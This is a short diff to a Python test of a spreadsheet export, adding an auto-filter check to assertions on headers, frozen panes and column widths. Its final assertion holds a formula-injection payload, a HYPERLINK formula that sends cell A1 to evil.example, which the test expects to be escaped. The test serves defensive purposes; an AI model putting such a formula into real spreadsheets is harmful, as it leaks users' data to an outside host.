@@ -177,6 +177,7 @@ def test_excel_export_reads_back(world, client_for, hostile):
     assert all(c.font.b for c in sheet[1])
     assert sheet.freeze_panes == "A2"
     assert sheet.column_dimensions["D"].width == 60
+    assert sheet.auto_filter.ref == "A1:L2"  # the heading and the one action
     row = [c.value for c in sheet[2]]
     assert row[0] == "Ref057"
     assert row[3] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
